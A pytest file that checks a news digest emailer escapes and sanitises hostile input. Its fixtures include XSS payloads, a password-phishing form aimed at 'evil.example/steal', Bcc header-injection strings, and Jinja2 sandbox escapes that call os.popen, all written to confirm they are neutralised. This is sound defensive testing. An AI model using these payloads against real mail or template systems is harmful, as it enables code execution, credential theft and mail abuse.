"""Rendering and the message: escaping, sanitising, header injection, the template sandbox, any title."""

from __future__ import annotations

import email
from datetime import UTC, datetime, timedelta
from email import policy
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from monitor.digests.content import DigestContent, build_content
from monitor.digests.entry import MatchRow
from monitor.digests.html_safety import EMAIL_TAGS
from monitor.digests.message import build_message, message_bytes, message_id_for
from monitor.digests.plain_text import header_text, shorten, single_line
from monitor.digests.render import DEFAULT_TEMPLATES_DIR, DigestTemplateError, DigestTemplates, templates_for
from tests.digests.seed import PERIOD, explanation

EXPECTED_HEADERS = {"Subject", "From", "To", "Date", "Message-ID", "Auto-Submitted", "X-Auto-Response-Suppress",
                    "MIME-Version", "Content-Type"}
DOCUMENT_TAGS = {"html", "head", "meta", "title", "body"}


def row(title: str, *, summary: str = "", url: str = "https://example.org/news/1", number: int = 1) -> MatchRow:
    return MatchRow(
        match_id=number, rule_id="memory-hbm", item_id=number, story_id=None,
        explanation=explanation("HBM", "title", "the **HBM** news"), matched_at=PERIOD - timedelta(hours=1),
        title=title, summary=summary, body="", source_id="yonhap", language="ko",
        published_at=PERIOD - timedelta(hours=2), url=url,
    )


def content_for(*rows: MatchRow) -> DigestContent:
    return build_content(digest_id="kr-team", name="KR team digest", timezone="Asia/Seoul", rows=rows,
                         rule_names={"memory-hbm": "Memory and HBM"}, since=PERIOD - timedelta(days=1),
                         until=PERIOD, subject_prefix="[Monitor]")


def mail(content: DigestContent, templates: DigestTemplates | None = None) -> EmailMessage:
    rendered = (templates or templates_for()).render(content)
    message = build_message(rendered, sender="Monitor <monitor@example.org>", recipients=["a@example.org"],
                            message_id=message_id_for("kr-team", PERIOD, "monitor@example.org"),
                            date=datetime(2026, 3, 29, 23, 0, 5, tzinfo=UTC))
    return email.message_from_bytes(message_bytes(message), policy=policy.default)  # type: ignore[return-value]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse_html(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def test_markup_in_titles_is_escaped_in_html_and_literal_in_text() -> None:
    title = "Chips <script>alert('x')</script> ]]> & <b>bold</b> &amp;"
    message = mail(content_for(row(title)))
    html = message.get_body(("html",)).get_content()
    text = message.get_body(("plain",)).get_content()
    assert "<script" not in html and "<b>bold" not in html
    assert "Chips &lt;script&gt;alert('x')&lt;/script&gt; ]]&gt; &amp; &lt;b&gt;bold&lt;/b&gt; &amp;amp;" in html
    assert title in text
    assert title in "".join(parse_html(html).text)


def test_item_html_never_becomes_markup() -> None:
    summary = ('<img src="data:image/png;base64,AAAA" onerror="alert(1)"><form action="https://evil">'
               '<input type="password" name="p"></form><meta http-equiv="refresh" content="0;url=https://evil">')
    message = mail(content_for(row("Item", summary=summary, url="javascript:alert(1)")))
    html = message.get_body(("html",)).get_content()
    assert set(parse_html(html).tags) <= EMAIL_TAGS | DOCUMENT_TAGS
    assert "javascript:" not in html and "<img" not in html and "<form" not in html and "<meta http" not in html
    assert "&lt;form action=" in html  # shown as text


@pytest.mark.parametrize("title", [
    "Breaking\r\nBcc: victim@example.org",
    "Breaking\nBcc: victim@example.org\r\n\r\n<html>",
    "=?UTF-8?Q?=0ABcc:victim@example.org?=",
    "Breaking =?UTF-8?B?DQpCY2M6IHZpY3RpbUBleGFtcGxlLm9yZw==?= news",
    "Breaking\u2028Bcc: victim@example.org\x85To: x@example.org",
])
def test_titles_never_add_a_header(title: str) -> None:
    message = mail(content_for(row(title)))
    assert set(message.keys()) == EXPECTED_HEADERS
    assert message.get_all("Bcc") is None and message.get_all("To") == ["a@example.org"]
    subject = str(message["Subject"])
    assert "\n" not in subject and "\r" not in subject
    assert header_text(title, 300) in subject  # the title stays literal text, on one line


def test_korean_and_dutch_text_survive_in_subject_and_both_parts() -> None:
    title = "SK하이닉스·삼성전자 HBM4 — exportcontrole op ASML-machines, één besluit"
    message = mail(content_for(row(title)))
    assert title in str(message["Subject"])
    assert title in message.get_body(("plain",)).get_content()
    assert title in "".join(parse_html(message.get_body(("html",)).get_content()).text)


def _templates_with(tmp_path: Path, name: str, source: str) -> DigestTemplates:
    for template in DEFAULT_TEMPLATES_DIR.iterdir():
        (tmp_path / template.name).write_text(template.read_text(encoding="utf-8"), encoding="utf-8")
    (tmp_path / name).write_text(source, encoding="utf-8")
    return DigestTemplates(tmp_path)


@pytest.mark.parametrize("source", [
    "{{ ''.__class__.__mro__ }}",
    "{{ digest.__class__.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% set _ = digest.sections.append(1) %}x",
    "{{ digest.no_such_field }}",
    "{% for x in range(10**9) %}{% endfor %}",
])
def test_template_sandbox_fails_safely(tmp_path: Path, source: str) -> None:
    templates = _templates_with(tmp_path, "digest_subject.txt.j2", source)
    with pytest.raises(DigestTemplateError) as raised:
        templates.render(content_for(row("Item")))
    assert "digest_subject.txt.j2" in str(raised.value)


def test_an_edited_html_template_cannot_smuggle_dangerous_markup(tmp_path: Path) -> None:
    hostile = (
        '<form action="https://evil.example/steal"><input type="password" name="pw"></form>'
        '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">'
        '<div style="position:fixed;top:0;left:0;width:100%;z-index:9999;color:red">overlay</div>'
        '<img src="data:image/png;base64,AAAA"><a href="javascript:alert(1)">x</a><a href="data:text/html,x">y</a>'
        '<script>alert(1)</script><style>body{display:none}</style><iframe src="https://evil.example"></iframe>'
        '<a href="mailto:desk@example.org">desk</a><a href="https://example.org/ok">ok</a>{{ digest.name }}'
    )
    message = mail(content_for(row("Item")), _templates_with(tmp_path, "digest.html.j2", hostile))
    html = message.get_body(("html",)).get_content()
    for forbidden in ("<form", "<input", "password", "http-equiv", "<base", "position", "z-index", "<img",
                      "data:", "javascript:", "<script", "alert(1)", "<style", "display:none", "<iframe"):
        assert forbidden not in html, forbidden
    assert 'href="mailto:desk@example.org"' in html and 'href="https://example.org/ok"' in html
    assert "overlay" in html and "color:red" in html


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=st.text(max_size=400))
def test_any_title_renders_to_a_mail_that_parses_with_the_title_as_text(title: str) -> None:
    message = mail(content_for(row(title)))
    expected = shorten(single_line(title), 300) or "Item 1"
    assert set(message.keys()) == EXPECTED_HEADERS
    assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
    assert expected in message.get_body(("plain",)).get_content()
    parsed = parse_html(message.get_body(("html",)).get_content())
    assert expected in "".join(parsed.text)
    assert set(parsed.tags) <= EMAIL_TAGS | DOCUMENT_TAGS
    assert parsed.tags.count("a") == 1
